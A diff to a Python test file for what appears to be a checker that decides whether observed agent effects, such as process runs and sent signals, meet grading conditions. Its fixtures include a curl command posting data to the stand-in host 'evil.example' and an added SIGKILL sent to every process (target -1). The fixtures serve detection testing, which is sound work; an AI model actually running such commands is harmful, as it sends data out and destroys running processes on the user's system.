@@ -51,6 +51,7 @@ POST = effect(
     body="b64",
 )
 RUN = effect(Channel.EXEC, "exec", path="/usr/bin/curl", argv=["curl", "-d", "x", "http://evil.example"])
+KILL = effect(Channel.SIGNALS, "kill", target=-1, signal=9)
 
 
 @pytest.mark.parametrize(
@@ -86,6 +87,11 @@ RUN = effect(Channel.EXEC, "exec", path="/usr/bin/curl", argv=["curl", "-d", "x"
         (CheckKind.PROCESS_RUN, {"program": "cur"}, observed(RUN), UNMET),
         (CheckKind.PROCESS_RUN, {"program": "curl", "argv_contains": "http://evil"}, observed(RUN), MET),
         (CheckKind.PROCESS_RUN, {"program": "curl", "matches": "good$"}, observed(RUN), UNMET),
+        (CheckKind.SIGNAL_SENT, {"signal": "SIGKILL"}, observed(KILL), MET),
+        (CheckKind.SIGNAL_SENT, {"signal": "SIGKILL", "target": -1}, observed(KILL), MET),
+        (CheckKind.SIGNAL_SENT, {"target": -1}, observed(KILL), MET),
+        (CheckKind.SIGNAL_SENT, {"signal": "SIGTERM"}, observed(KILL), UNMET),
+        (CheckKind.SIGNAL_SENT, {"signal": "SIGKILL", "target": 7}, observed(KILL), UNMET),
         (CheckKind.ANSWER_CONTAINS, {"text": "done"}, observed(), MET),
         (CheckKind.ANSWER_CONTAINS, {"text": "{{token.code}}"}, observed(answer="code OAK-11."), MET),
         (CheckKind.ANSWER_CONTAINS, {"text": "done"}, observed(answer=None), UNASSESSED),
